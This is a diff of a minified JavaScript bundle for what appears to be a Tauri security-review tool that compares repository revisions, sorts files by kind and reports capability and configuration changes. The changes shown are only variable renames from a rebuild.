 d-sources")} takes addresses with ${(0,import_shared_acegpst.code)("https")} and a path, such as ${(0,import_shared_acegpst.code)(SOURCE2)}.`),[])})}#trust(value){
 return readTrust(value,this.#noteAt).map(({trusted,at:at2})=>(this.set.set(`trust: ${(0,import_shared_ce.trustedName)(trusted)}`,at2),trusted))}#accept(value){return readAccept(
-value,import_shared_aces.DEFAULT_POLICY.accept,(at2,message)=>this.#note(at2,message),(name,at2)=>this.set.set(name,at2))}#divided(name,choices,parts,part,value){
+value,import_shared_aces.DEFAULT_POLICY.accept,(at2,message)=>this.#note(at2,message),(name,at2)=>this.set.set(name,at2))}#divided(name,choices,parts2,part,value){
 const by=new Map;if(value.kind!=="object")return{most:this.#oneOf(name,choices,value),by};this.set.delete(name);let most;for(const[which,{key:key3,value:each}]of value.
-entries){const choice2=this.#oneOf(`${name}: ${which}`,choices,each),known13=parts.find(other=>other===which);this.set.set(which==="default"?name:`${name}: ${which}`,
+entries){const choice2=this.#oneOf(`${name}: ${which}`,choices,each),known13=parts2.find(other=>other===which);this.set.set(which==="default"?name:`${name}: ${which}`,
 key3),which==="default"?most=choice2:known13===void 0?this.#note(key3,`There is no ${part} ${(0,import_shared_acegpst.code)(which)}; ${(0,import_shared_acegpst.code)(
-name)} takes default, ${inWords3(parts)}.`):choice2!==void 0&&by.set(known13,choice2)}return{most,by}}#oneOf(name,choices,value){const choice2=value.kind==="str\
-ing"?choices.find(each=>each===value.value):void 0;return choice2===void 0&&this.#note(value.at,`${(0,import_shared_acegpst.code)(name)} takes ${inWords3(choices)}\
+name)} takes default, ${inWords3(parts2)}.`):choice2!==void 0&&by.set(known13,choice2)}return{most,by}}#oneOf(name,choices,value){const choice2=value.kind==="st\
+ring"?choices.find(each=>each===value.value):void 0;return choice2===void 0&&this.#note(value.at,`${(0,import_shared_acegpst.code)(name)} takes ${inWords3(choices)}\
 .`),choice2}#noteAt=(at2,message)=>this.#note(at2,message);#note(at2,message){this.errors.length<LIMITS3.errors&&this.errors.push({at:at2,message})}},WORST_FIRST=import_shared_aceps.SEVERITIES.
 toReversed(),FAIL_ON=[...WORST_FIRST,"never"],RULE_SETTINGS=["off",...WORST_FIRST],DOMAINS=[...new Set(import_shared_ce.rules.map(({id})=>(0,import_shared_aces.domainOfRule)(
 id)))].sort(),SETTINGS6=`${["mode","fail-on","comment-from","incomplete","rules","trusted-sources","trust","waivers","accept","extends"].map(name=>(0,import_shared_acegpst.code)(
@@ -9521,9 +9612,9 @@ ipt","ci",".ci","tools","tool","bin","build","hack",".github",".gitlab","server"
 on-app"]),PAGES2=new Set(["src","app","pages","components","composables","layouts","views","routes","stores","public","static","assets","styles","ui","frontend",
 "web","webview","client","www","gui","dist"]);function isAmongPages(path,apps){const own=appsAbove(path,apps).find(({root})=>root!==""),first=folderOf(own===void 0?
 path:below(own.root,path)??path).toLowerCase().split("/").find(name=>OTHERS3.has(name)||PAGES2.has(name))??"";return PAGES2.has(first)&&!(own!==void 0&&first===
-"src")}var CODE5=/\.[cm]?[jt]sx?$/i;function isCode2(path){return CODE5.test(path)}var TEST=/(?:^|\/)(?:tests?|__tests__|specs?|e2e|cypress|playwright|__mocks__|benches|benchmarks?)\/.*\.(?:[cm]?[jt]sx?|snap)$|\.(?:test|spec|bench|cy)\.[cm]?[jt]sx?$|\.snap$/i;
-function isTest(path){return TEST.test(path)}function kindOf3(path,apps){return FILE_KINDS.find(kind=>kind.is(path,apps))??UNKNOWN2}var UNKNOWN2={name:"a file o\
-f a kind that isn't known",coverage:"named",why:"Its role isn't known, so it is named.",samples:["src-tauri/data.bin","proto/api.proto"],is:()=>!0},NATIVE2=/\.(?:plist|entitlements|wxs|wxl|nsi|nsh|desktop|service|rc|manifest|gradle|kts|kt|java|swift|m|mm|h|c|cc|cpp|pbxproj|xcconfig|xcscheme|podspec|provisionprofile|mobileprovision)$|(?:^|\/)(?:AndroidManifest\.xml|network_security_config\.xml|Podfile|gradle\.properties|snapcraft\.yaml|PKGBUILD|.*\.spec|project\.yml)$/,
+"src")}var CODE5=/\.[cm]?[jt]sx?$/i;function isCode2(path){return CODE5.test(path)}var TEST2=/(?:^|\/)(?:tests?|__tests__|specs?|e2e|cypress|playwright|__mocks__|benches|benchmarks?)\/.*\.(?:[cm]?[jt]sx?|snap)$|\.(?:test|spec|bench|cy)\.[cm]?[jt]sx?$|\.snap$/i;
+function isTest(path){return TEST2.test(path)}function kindOf3(path,apps){return FILE_KINDS.find(kind=>kind.is(path,apps))??UNKNOWN2}var UNKNOWN2={name:"a file \
+of a kind that isn't known",coverage:"named",why:"Its role isn't known, so it is named.",samples:["src-tauri/data.bin","proto/api.proto"],is:()=>!0},NATIVE2=/\.(?:plist|entitlements|wxs|wxl|nsi|nsh|desktop|service|rc|manifest|gradle|kts|kt|java|swift|m|mm|h|c|cc|cpp|pbxproj|xcconfig|xcscheme|podspec|provisionprofile|mobileprovision)$|(?:^|\/)(?:AndroidManifest\.xml|network_security_config\.xml|Podfile|gradle\.properties|snapcraft\.yaml|PKGBUILD|.*\.spec|project\.yml)$/,
 OPENED=/(?:^|\/)(?:\.vscode|\.devcontainer|\.husky|\.idea|\.zed|\.claude|\.cursor|\.codex|\.gemini|\.devin|\.mise)\/|(?:^|\/)(?:\.envrc|\.mcp\.json|\.?lefthook(?:-local)?\.(?:ya?ml|toml|json)|\.pre-commit-config\.ya?ml|\.lintstagedrc[^/]*|\.huskyrc[^/]*|\.overcommit\.ya?ml|mise\.toml|\.mise\.toml|\.tool-versions|devbox\.json|CLAUDE\.md|AGENTS\.md|GEMINI\.md|\.cursorrules|\.env(?:\.[^/]*)?)$/;
 function namesPrograms(path){return/\.(?:mdx?|mdc|txt|rst|png|jpe?g|gif|svg)$/i.test(path)||/(?:^|\/)(?:node_modules|\.yarn|patches)\//.test(path)?!1:[OPENED,MANAGERS4,
 BUNDLER,TOOLS_WITH_CODE,/(?:^|\/)(?:\.npmrc|dangerfile\.[cm]?[jt]s)$/].some(kind=>kind.test(path))}var REPOSITORY=/^(?:\.github\/)?(?:CODEOWNERS|dependabot\.ya?ml|renovate\.json5?|\.renovaterc(?:\.json)?)$|^\.github\/(?:dependabot\.ya?ml|CODEOWNERS|renovate\.json5?)$|(?:^|\/)\.gitmodules$/,
@@ -9562,14 +9653,14 @@ irrelevant",why:"They run nothing and grant nothing.",samples:["README.md","src-
 .prettierignore","rustfmt.toml"],is:byPath(TOOLS_OF_EDITORS)},{name:"templates of the forge",coverage:"irrelevant",why:"Texts for people who open issues and pul\
 l requests.",samples:[".github/ISSUE_TEMPLATE/bug.yml",".github/FUNDING.yml"],is:byPath(/^\.github\/(?:ISSUE_TEMPLATE\/.*|PULL_REQUEST_TEMPLATE.*|FUNDING\.yml|labeler\.yml|release\.yml|stale\.yml)$/i)},
 UNKNOWN2],DECIDES3=/\b(?:allow_directory|allow_file|forbid_directory|forbid_file|allow_script|add_capability|WebviewUrl|WindowUrl|External|CustomProtocol|navigate|on_navigation|pubkey|endpoints|set_csp|allow_permission)\b/,
-NAMED2=/\b(?:const|static|let)\s+(?:mut\s+|ref\s+)?([A-Za-z_]\w{0,100})/;function decidingLines(texts2){let words4;return({path,text:text3},line)=>{if(!path.endsWith(
+NAMED3=/\b(?:const|static|let)\s+(?:mut\s+|ref\s+)?([A-Za-z_]\w{0,100})/;function decidingLines(texts2){let words4;return({path,text:text3},line)=>{if(!path.endsWith(
 ".rs"))return!1;const lines2=text3.split(`
 `);if(DECIDES3.test(lines2.slice(Math.max(line-3,0),line+1).join(`
-`)))return!0;const[,name]=NAMED2.exec(lines2[line-1]??"")??[];return words4??=wordsOfCalls(texts2),name!==void 0&&words4.has(name)}}function wordsOfCalls(texts2){
+`)))return!0;const[,name]=NAMED3.exec(lines2[line-1]??"")??[];return words4??=wordsOfCalls(texts2),name!==void 0&&words4.has(name)}}function wordsOfCalls(texts2){
 const lines2=texts2.filter(({path})=>path.endsWith(".rs")).flatMap(({text:text3})=>text3.split(`
-`)).filter(line=>DECIDES3.test(line));return new Set(lines2.flatMap(line=>line.match(/\w+/g)??[]))}function mentionsOf2(texts2,roots,paths3){const byName3=Map.groupBy(
-paths3.filter(path=>!NEVER2.test(path)).flatMap(path=>namesOf3(path).map(name=>({name,path}))),({name})=>name),found12=new Map;if(byName3.size===0)return found12;
-const decides3=decidingLines(texts2);for(const text3 of texts2)for(const{word:word2,line}of wordsOf3(text3))for(const{path}of byName3.get(nameIn7(word2))??[]){if(path===
+`)).filter(line=>DECIDES3.test(line));return new Set(lines2.flatMap(line=>line.match(/\w+/g)??[]))}function mentionsOf2(texts2,roots,paths3){const byName4=Map.groupBy(
+paths3.filter(path=>!NEVER2.test(path)).flatMap(path=>namesOf3(path).map(name=>({name,path}))),({name})=>name),found12=new Map;if(byName4.size===0)return found12;
+const decides3=decidingLines(texts2);for(const text3 of texts2)for(const{word:word2,line}of wordsOf3(text3))for(const{path}of byName4.get(nameIn7(word2))??[]){if(path===
 text3.path||found12.get(path)?.decides===!0||isDull(path,text3.path)||!leadsTo(word2,path,text3.path,roots))continue;const mention={by:text3.path,line,decides:decides3(
 text3,line)};(!found12.has(path)||mention.decides)&&found12.set(path,mention)}return found12}var NEVER2=/\.(?:png|jpe?g|gif|webp|avif|bmp|tiff?|ico|icns|woff2?|ttf|otf|eot|mp[34]|webm|ogg|wav|flac|m4a|psd)$|\.d\.[cm]?ts$/i,
 WELL_KNOWN=/(?:^|\/)(?:README|CHANGELOG|CHANGES|HISTORY|LICEN[CS]E|NOTICE|COPYING|AUTHORS|CONTRIBUTING|SECURITY|CODE_OF_CONDUCT|RELEASE[\w-]*)(?:[.-][^/]*)?$/i,
@@ -9603,19 +9694,19 @@ root,""]:[joined(root,cwd)]).filter(folder=>folder!==null),variables:new Map,arg
 start,runnable,budget)}var IMPORTED=/(?:\bfrom|\bimport|\brequire|\bimport\s*\(|\brequire\s*\(|\brequire\.resolve\s*\(|\bnew\s+(?:URL|Worker)\s*\()\s{0,20}["'`]([^"'`\n$]{1,4096})["'`]/g,
 known11=new WeakMap;function importsOf(file2){const imports2=known11.get(file2)??readImports(file2);return known11.set(file2,imports2),imports2}function readImports({
 path,text:text3}){const names4=new Set([...text3.matchAll(IMPORTED)].map(([,name=""])=>name)),[relative,others]=[[...names4].filter(isRelative),[...names4].filter(
-name=>!isRelative(name))];return{paths:relative.flatMap(name=>joined(folderOf(path),name.replace(/[?#].*$/,""))??[]).flatMap(filesOf),packages:others.flatMap(name=>/^(?:@[^/]+\/)?[^/]+/.
+name=>!isRelative(name))];return{paths:relative.flatMap(name=>joined(folderOf(path),name.replace(/[?#].*$/,""))??[]).flatMap(filesOf2),packages:others.flatMap(name=>/^(?:@[^/]+\/)?[^/]+/.
 exec(name)?.[0]??[])}}function isRelative(name){return/^\.{1,2}(?:\/|$)/.test(name)}var ENDINGS4=[".ts",".js",".mjs",".cjs",".mts",".cts",".tsx",".jsx",".json"];
-function filesOf(way){const typed=way.replace(/js(x?)$/,"ts$1");return[way,typed,...ENDINGS4.flatMap(ending=>[`${way}${ending}`,`${way}/index${ending}`])]}async function readBothSides(base,head,wantedOfBase,wantedOfHead){
+function filesOf2(way){const typed=way.replace(/js(x?)$/,"ts$1");return[way,typed,...ENDINGS4.flatMap(ending=>[`${way}${ending}`,`${way}/index${ending}`])]}async function readBothSides(base,head,wantedOfBase,wantedOfHead){
 const shared2=readBefore.get(base)??new Map;readBefore.set(base,shared2);const fromHead=await readSide(head,wantedOfHead,shared2);return{base:await readSide(base,
 wantedOfBase,shared2),head:fromHead}}function beginWith(shared2,base){readBefore.set(base,shared2)}function together3(first,rest2){return{files:new Map([...first.
 files,...rest2.files]),gaps:[...first.gaps,...rest2.gaps]}}var readBefore=new WeakMap;async function readSide(tree,wanted,shared2){const gaps=[],files=new Map,missing2=[];
-let bytes=0;for(const entry of wanted){const file2=shared2.get(keyOf5(entry))??(isBinary(entry.path)?{path:entry.path,id:entry.id,text:""}:void 0);bytes+=isBinary(
-entry.path)?0:entry.size,file2!==void 0?(shared2.set(keyOf5(entry),file2),files.set(entry.path,file2)):entry.size>import_shared_acegos.TREE_LIMITS.fileBytes||bytes>
+let bytes=0;for(const entry of wanted){const file2=shared2.get(keyOf6(entry))??(isBinary(entry.path)?{path:entry.path,id:entry.id,text:""}:void 0);bytes+=isBinary(
+entry.path)?0:entry.size,file2!==void 0?(shared2.set(keyOf6(entry),file2),files.set(entry.path,file2)):entry.size>import_shared_acegos.TREE_LIMITS.fileBytes||bytes>
 import_shared_acegos.TREE_LIMITS.totalBytes?gaps.push((0,import_shared_acegos.gapIn)(entry.path,{kind:"truncated",rests:(0,import_shared_acegos.contentOf)(entry),
 message:`${(0,import_shared_acegpst.code)(entry.path)} is larger than what is read; nothing in it was compared.`})):missing2.push(entry)}const blobs=missing2.length===
 0?new Map:await tree.read(missing2);for(const entry of missing2){const bytesOfFile=blobs.get(entry.id),text3=bytesOfFile&&decode2(bytesOfFile);if(text3===void 0)
 gaps.push((0,import_shared_acegos.gapIn)(entry.path,{kind:"unreadable",rests:(0,import_shared_acegos.contentOf)(entry),message:unreadable(entry.path,bytesOfFile!==
-void 0)}));else{const file2={path:entry.path,id:entry.id,text:text3};shared2.set(keyOf5(entry),file2),files.set(entry.path,file2)}}return{files,gaps}}function keyOf5({
+void 0)}));else{const file2={path:entry.path,id:entry.id,text:text3};shared2.set(keyOf6(entry),file2),files.set(entry.path,file2)}}return{files,gaps}}function keyOf6({
 path,id}){return`${id}\0${path}`}function unreadable(path,present2){return present2?isOfSystem(path)?`${(0,import_shared_acegpst.code)(path)} is binary or in an\
 other encoding than UTF-8, and isn't read: save it as text in UTF-8.`:`${(0,import_shared_acegpst.code)(path)} is not UTF-8 text, so Tauri can't read it either.`:
 `${(0,import_shared_acegpst.code)(path)} could not be read from the repository.`}function isOfSystem(path){return/\.(?:plist|entitlements|xml|nsi|nsh|wxs|wxl)$/i.
@@ -9651,11 +9742,11 @@ root}${path.slice(from.root.length)}`:path,after2=new Map(head.map(({path,id})=>
 path))===id)}var NOTHING9={files:new Map,gaps:[]},NOT_ASKED3={named:new Set,read:{base:NOTHING9,head:NOTHING9},programs:NO_PROGRAMS,mentions:new Map},MOST_ROUNDS6=20;
 async function namedChanges(base,head,pairs,changed){const apps=pairs.flatMap(pair=>[pair.base,pair.head].flatMap(app=>app??[]));if(!asksWhoNames(changed,apps))
 return NOT_ASKED3;const doubtful=[...changed].filter(path=>!mayBeNamed(path)),asked4=[...changed].filter(path=>isAsked2(path,apps)),{read:read11,isCut}=await readWhatNames(
-base,head,pairs),programs4=await readPrograms(base,head,pairs,read11,changed),roots=[...new Set(apps.map(({root})=>root))],mayName=mentionedIn(textsOf4(read11),
-roots),mentions=mentionsOf2(textsOf4(read11,programs4.read),roots,asked4),isNamed6=path=>isCut||mayName(path),run=doubtful.some(programs4.isOne)?textsOf4(programs4.
+base,head,pairs),programs4=await readPrograms(base,head,pairs,read11,changed),roots=[...new Set(apps.map(({root})=>root))],mayName=mentionedIn(textsOf5(read11),
+roots),mentions=mentionsOf2(textsOf5(read11,programs4.read),roots,asked4),isNamed6=path=>isCut||mayName(path),run=doubtful.some(programs4.isOne)?textsOf5(programs4.
 read).map(({path})=>path):[];return{named:new Set([...doubtful.filter(isNamed6),...run]),read:read11,programs:programs4,mentions}}function asksWhoNames(changed,apps){
 return apps.length>0&&[...changed].some(path=>!mayBeNamed(path)||isAsked2(path,apps))}function isAsked2(path,apps){if(mayRun(path))return!0;const kind=kindOf3(path,
-apps);return kind.coverage==="irrelevant"||kind===UNKNOWN2}function textsOf4(...read11){return[...new Set(read11.flatMap(({base,head})=>[...base.files.values(),
+apps);return kind.coverage==="irrelevant"||kind===UNKNOWN2}function textsOf5(...read11){return[...new Set(read11.flatMap(({base,head})=>[...base.files.values(),
 ...head.files.values()]))]}function withNamed(side,named12){if(named12.size===0)return side;const known13=new Set(side.entries),added=side.listing.entries.filter(
 entry=>named12.has(entry.path)&&!known13.has(entry));return{...side,entries:[...side.entries,...added]}}async function readWhatNames(base,head,pairs){let read11={
 base:NOTHING9,head:NOTHING9};for(let round=0;round<MOST_ROUNDS6;round+=1){const[there,here]=[unread2("base",base,read11.base,pairs),unread2("head",head,read11.head,
@@ -9684,8 +9775,8 @@ trusted)}counted(){const gaps=[...this.#gaps].map(([kind,merges])=>({kind,merges
 unasked:this.#unasked,rules:mostFirst([...this.#rules.values()]),gaps:mostFirst(gaps)}}proposal(){return{rules:mostFirst([...this.#rules.values()]).filter(({rule,
 merges,worst:severity})=>merges>=HABIT&&severity==="medium"&&!OF_CODE.has(rule)).map(({rule,merges})=>({rule,severity:"low",merges})),trust:mostFirst([...this.#trusted.
 values()]).slice(0,MOST_PACKAGES3)}}#addIncomplete(blocking){blocking.length===0?this.#unasked+=1:this.#incomplete+=1;for(const kind of new Set(blocking.map(gap3=>gap3.
-kind)))this.#gaps.set(kind,(this.#gaps.get(kind)??0)+1)}#addRule(rule,commit,findings){const before2=this.#rules.get(rule),severities=findings.map(({severity})=>severity);
-this.#rules.set(rule,{rule,merges:(before2?.merges??0)+1,worst:(0,import_shared_aceps.worst)([...severities,before2?.worst??"info"]),newest:before2?.newest??commit})}#addTrusted(trusted){
+kind)))this.#gaps.set(kind,(this.#gaps.get(kind)??0)+1)}#addRule(rule,commit,findings){const before3=this.#rules.get(rule),severities=findings.map(({severity})=>severity);
+this.#rules.set(rule,{rule,merges:(before3?.merges??0)+1,worst:(0,import_shared_aceps.worst)([...severities,before3?.worst??"info"]),newest:before3?.newest??commit})}#addTrusted(trusted){
 const name=(0,import_shared_ce.trustedName)(trusted),merges=(this.#trusted.get(name)?.merges??0)+1;this.#trusted.set(name,{trusted,merges})}};function isUnasked({
 message}){return message.includes(OFFLINE.unknown)}function trustableIn(failing){const packages=failing.filter(({rule,severity})=>OF_CODE.has(rule)&&severity===
 "medium").flatMap(({codeOf:codeOf11})=>codeOf11.flatMap(each=>isTrustable(each)?[each]:[]));return new Map(packages.map(each=>[(0,import_shared_ce.trustedName)(
@@ -9766,15 +9857,15 @@ indexOf(b5.head.purpose)),distinct7=new Map;for(const pair of ordered){const key
 set(key3,pair)}return[...distinct7.values()]}function settingsOfBase({base}){return base===null?"":settingsOf2(base)}function purposeAmong(build,base,head){const isKnown3=base.
 some(other=>other.maker===build.maker&&isSame5(other,build));if(build.purpose==="release"||build.purpose==="unknown"||isKnown3)return build.purpose;const isIn=(builds2,release)=>builds2.
 some(each=>each.maker===release.maker&&isSame5(each,release)),gone=base.filter(other=>other.purpose==="release"&&!isIn(head,other)),come=head.filter(other=>other.
-purpose==="release"&&!isIn(base,other)),[makersThere,makersHere]=[makersOf2(base),makersOf2(head)],mayFollow=(after2,before2)=>after2.maker===before2.maker||!makersThere.
-has(after2.maker)&&!makersHere.has(before2.maker),isFollowedBetter=before2=>come.some(after2=>mayFollow(after2,before2)&&likeness(after2,before2)>=likeness(build,
-before2));return gone.some(before2=>mayFollow(build,before2)&&!isFollowedBetter(before2))?"release":build.purpose}function makersOf2(builds2){return new Set(builds2.
+purpose==="release"&&!isIn(base,other)),[makersThere,makersHere]=[makersOf2(base),makersOf2(head)],mayFollow=(after2,before3)=>after2.maker===before3.maker||!makersThere.
+has(after2.maker)&&!makersHere.has(before3.maker),isFollowedBetter=before3=>come.some(after2=>mayFollow(after2,before3)&&likeness(after2,before3)>=likeness(build,
+before3));return gone.some(before3=>mayFollow(build,before3)&&!isFollowedBetter(before3))?"release":build.purpose}function makersOf2(builds2){return new Set(builds2.
 map(({maker:maker2})=>maker2))}function likeness(a3,b5){const features=new Set(b5.flags.features.map(({value})=>value));return shared(a3,b5)+a3.flags.features.filter(
 ({value})=>features.has(value)).length}function isSame5(one3,other){return one3.purpose===other.purpose&&settingsOf2(one3)===settingsOf2(other)}function counterpart(build,base,head){
 const settings3=settingsOf2(build),same=base.find(other=>settingsOf2(other)===settings3&&isAsOpen(other,build));if(same!==void 0)return same;const isIn=(builds2,other)=>builds2.
 some(each=>each.maker===other.maker&&settingsOf2(each)===settingsOf2(other)),gone=base.filter(other=>isOfMaker(other,build)&&!isIn(head,other)),come=head.filter(
 other=>isOfMaker(other,build)&&!isIn(base,other));return build.maker===null&&(gone.length!==1||come.length!==1)?null:gone.toSorted((a3,b5)=>shared(b5,build)-shared(
-a3,build))[0]??null}function isAsOpen(before2,after2){return after2.purpose!=="release"||before2.purpose==="release"}function isOfMaker(other,{maker:maker2,purpose}){
+a3,build))[0]??null}function isAsOpen(before3,after2){return after2.purpose!=="release"||before3.purpose==="release"}function isOfMaker(other,{maker:maker2,purpose}){
 return other.maker===maker2&&other.purpose===purpose}function shared(a3,b5){const paths3=new Set(b5.layers.map(({file:file2})=>file2.path));return a3.layers.filter(
 ({file:file2})=>paths3.has(file2.path)).length}function standingCode(base,head,{base:there,head:here}){const known13=new Set(base.filter(isCode3).map(({role,path})=>`${role}\
  ${path}`)),added=head.filter(isCode3).filter(({role,path})=>!known13.has(`${role} ${path}`)),stands=path=>there.contents.isFile(path)&&there.contents.at(path)===
@@ -9787,9 +9878,9 @@ head,sides.head.contents)}),files={base:base.files,head:head.files},of2=given2=>
 builds2).slice(MOST_OTHER_BUILDS),leftAtBase=left2.flatMap(pair=>pair.base??[]);return{location:here,takesOver,isBeside,files,builds:buildsToCompare(there,here,
 files,builds2,sides),unread:{base:[...base.gaps,...builds2.base?.gaps??[],...leftOut3(leftAtBase,there,sides.base)],head:[...head.gaps,...builds2.head.gaps,...leftOut3(
 left2.map(pair=>pair.head),here,sides.head)]},of:of2,isUnchanged:path=>sides.base.contents.at(path)===sides.head.contents.at(path),standing:(granted2,grants)=>standingCode(
-granted2,grants,sides)}}function buildsToCompare(there,here,files,{base,head},{base:before2,head:after2}){const own={build:null,base:there&&loadProject(there,files.
-base,base?.own,before2.contents),head:loadProject(here,files.head,head.own,after2.contents)},others=otherPairs({base,head}).slice(0,MOST_OTHER_BUILDS);return[own,
-...others.map(pair=>({build:buildOf2(pair.head),base:pair.base===null?own.base:there&&loadProject(there,files.base,pair.base.layers,before2.contents,pair.base.flags),
+granted2,grants,sides)}}function buildsToCompare(there,here,files,{base,head},{base:before3,head:after2}){const own={build:null,base:there&&loadProject(there,files.
+base,base?.own,before3.contents),head:loadProject(here,files.head,head.own,after2.contents)},others=otherPairs({base,head}).slice(0,MOST_OTHER_BUILDS);return[own,
+...others.map(pair=>({build:buildOf2(pair.head),base:pair.base===null?own.base:there&&loadProject(there,files.base,pair.base.layers,before3.contents,pair.base.flags),
 head:loadProject(here,files.head,pair.head.layers,after2.contents,pair.head.flags)}))]}function otherPairs({base,head}){return pairBuilds(base?.others??[],head.
 others).filter(pair=>!isOwn5(pair.head,head)||pair.base!==null&&base!==null&&!isOwn5(pair.base,base))}function isOwn5(build,{own}){return settingsOf2(build)===settingsOf2(
 {layers:own,flags:NO_FLAGS2})}function buildOf2({name,purpose,command:command2}){return{name,purpose,command:command2}}function leftOut3(builds2,app,{contents}){
@@ -9803,19 +9894,19 @@ test(text3)),add4("working-tree-encoding",reencodes(of2("working-tree-encoding")
 l")==="crlf"&&isText2&&lineEndsCount(path,text3)),found12}var KEYWORD=/\$Id[:$]/,UTF_8=/^utf-?8$/i,LIKE_ASCII=/^(?:(?:us-)?ascii|latin1|iso-8859-(?:[1-9]|1[013-6])|(?:windows-|cp)125[0-8])$/i;
 function reencodes(encoding,text3){return typeof encoding!="string"?encoding===!0:encoding===""||UTF_8.test(encoding)?!1:!(LIKE_ASCII.test(encoding)&&/^[\x00-\x7f]*$/.
 test(text3))}var ANY_LINE_END=/\.(?:json5?|lock|rs|html|ya?ml|npmrc|bat|cmd|ps1)$/;function lineEndsCount(path,text3){return path.endsWith(".toml")?/"""|'''/.test(
-text3):!ANY_LINE_END.test(baseName(path))}function attributeGaps(base,head,work){try{const[before2,after2]=[convertedIn(base,work),convertedIn(head,work)];return[
-...byLine(before2,after2),...(0,import_shared_acegos.sinceWhen)(unclearLines(base),unclearLines(head)),...noLongerConverted(before2,after2,head)]}catch(error){if(!(error instanceof
+text3):!ANY_LINE_END.test(baseName(path))}function attributeGaps(base,head,work){try{const[before3,after2]=[convertedIn(base,work),convertedIn(head,work)];return[
+...byLine(before3,after2),...(0,import_shared_acegos.sinceWhen)(unclearLines(base),unclearLines(head)),...noLongerConverted(before3,after2,head)]}catch(error){if(!(error instanceof
 OutOfWork))throw error;return[{...tooMany(head),since:"head"}]}}function convertedIn(files,work){return attributeFiles(files).length===0?[]:[...files.values()].
 filter(({path})=>!IN_THE_REPOSITORY.test(path)).flatMap(file2=>conversionsAnywhere(file2,files,work).map(by=>({file:file2,by})))}var IN_THE_REPOSITORY=/(?:^|\/)\.gitattributes$|^\.github\/workflows\//;
 function conversionsAnywhere(file2,files,work){const found12=[!1,!0].flatMap(ignoreCase=>conversionsOf2(file2,attributesOf(file2.path,files,ignoreCase,work)));return[
-...new Map(found12.map(by=>[JSON.stringify(by),by])).values()]}function byLine(before2,after2){const compared3=(0,import_shared_acegos.sinceWhen)(before2.map(nameOf6),
-after2.map(nameOf6)),told3=after2.map((each,index)=>({...each,since:compared3[index]?.since??"head"}));return[...Map.groupBy(told3,({by,since})=>JSON.stringify(
+...new Map(found12.map(by=>[JSON.stringify(by),by])).values()]}function byLine(before3,after2){const compared3=(0,import_shared_acegos.sinceWhen)(before3.map(nameOf7),
+after2.map(nameOf7)),told3=after2.map((each,index)=>({...each,since:compared3[index]?.since??"head"}));return[...Map.groupBy(told3,({by,since})=>JSON.stringify(
 [by,since])).values()].flatMap(same=>{const[first]=same;if(first===void 0)return[];const{by,since}=first,files=same.map(({file:file2})=>file2),rests=(0,import_shared_acegos.wordsOf)(
 "attribute",by.written,files.map(import_shared_acegos.contentOf).sort()),message=`With ${(0,import_shared_acegpst.code)(by.written)} a checkout holds ${inWords4(
 files)} otherwise than the repository does, so that what is built isn't what was read. Take the attribute from what the app is built from, or compare a checkout\
- by hand.`;return[{...(0,import_shared_acegos.gapAt)(by.at,{kind:"unsupported",rests,message,blocking:since==="head"}),since}]})}function nameOf6({file:file2,by}){
+ by hand.`;return[{...(0,import_shared_acegos.gapAt)(by.at,{kind:"unsupported",rests,message,blocking:since==="head"}),since}]})}function nameOf7({file:file2,by}){
 const rests=(0,import_shared_acegos.wordsOf)("attribute",by.written,(0,import_shared_acegos.contentOf)(file2));return(0,import_shared_acegos.gapAt)(by.at,{kind:"\
-unsupported",rests,message:by.written})}function noLongerConverted(before2,after2,head){const still=new Set(after2.map(({file:file2})=>file2.path));return before2.
+unsupported",rests,message:by.written})}function noLongerConverted(before3,after2,head){const still=new Set(after2.map(({file:file2})=>file2.path));return before3.
 flatMap(({file:{path},by})=>{const now=head.get(path);if(now===void 0||still.has(path))return[];const rests=(0,import_shared_acegos.wordsOf)("attribute gone",by.
 written,(0,import_shared_acegos.contentOf)(now)),message=`Until now ${(0,import_shared_acegpst.code)(by.written)} made a checkout hold ${(0,import_shared_acegpst.code)(
 path)} otherwise than the repository does, so what is new in it isn't known: compare it with an old checkout by hand.`;return[{...(0,import_shared_acegos.gapIn)(
@@ -9827,12 +9918,12 @@ head),message="The attributes of this repository are too many to be compared, so
 "attributes",attributeFiles(head).map(import_shared_acegos.contentOf));return(0,import_shared_acegos.gapIn)(file2?.path??GIT_ATTRIBUTES,{kind:"truncated",rests,
 message})}function attributeFiles(files){return[...files.values()].filter(({path})=>baseName(path)===GIT_ATTRIBUTES)}var MOST_SHOWN=3;function inWords4(files){const shown4=files.
 slice(0,MOST_SHOWN).map(({path})=>(0,import_shared_acegpst.code)(path)),rest2=files.length-shown4.length;return(0,import_shared_aces.listInWords)(rest2>0?[...shown4,
-`${rest2} more files`]:shown4)}function changedPaths(before2,after2){const[was,is]=[idsByPath(before2),idsByPath(after2)],changed=new Set([...is].filter(([path,
+`${rest2} more files`]:shown4)}function changedPaths(before3,after2){const[was,is]=[idsByPath(before3),idsByPath(after2)],changed=new Set([...is].filter(([path,
 id])=>was.get(path)!==id).map(([path])=>path));for(const path of was.keys())is.has(path)||changed.add(path);return changed}function idsByPath({entries,unfollowed}){
-return new Map([...entries.map(({path,id})=>[path,id]),...unfollowed.map(({path,what,id})=>[path,id===null?Symbol(what):`${what} ${id}`])])}var MOST_LINES6=5,LONGEST_LINE6=240;
+return new Map([...entries.map(({path,id})=>[path,id]),...unfollowed.map(({path,what,id})=>[path,id===null?Symbol(what):`${what} ${id}`])])}var MOST_LINES7=5,LONGEST_LINE6=240;
 function withExcerpts(findings,files){const split3=new Map;return findings.map(finding=>{const{path,line,endLine}=finding,lines2=split3.get(path)??(files.get(path)?.
 text??"").split(`
-`);split3.set(path,lines2);const quoted4=lines2.slice(line-1,Math.min(endLine,line+MOST_LINES6-1));return{...finding,excerpt:quoted4.map(shortened).join(`
+`);split3.set(path,lines2);const quoted4=lines2.slice(line-1,Math.min(endLine,line+MOST_LINES7-1));return{...finding,excerpt:quoted4.map(shortened).join(`
 `)}})}function shortened(line){const text3=line.replace(/\r$/,"");return text3.length<=LONGEST_LINE6?text3:`${text3.slice(0,LONGEST_LINE6).toWellFormed()}\u2026`}
 var DEEPEST20=3,PASSED_OVER=/(?:^|\/)(?:node_modules|target|\.[^/]+)(?:\/|$)/,IGNORE_FILES=[".taurignore",".gitignore"];function foundFrom(folder,apps,ignoring,work){
 for(const root of[folder,inFolder(folder,"src-tauri")]){const near=apps.find(app=>app.root===root);if(near!==void 0)return near}return appsBelow(folder,apps).toSorted(
@@ -9854,8 +9945,8 @@ filter(({path})=>{const app=byFolder.get(folderOf(path));return app!==void 0&&(i
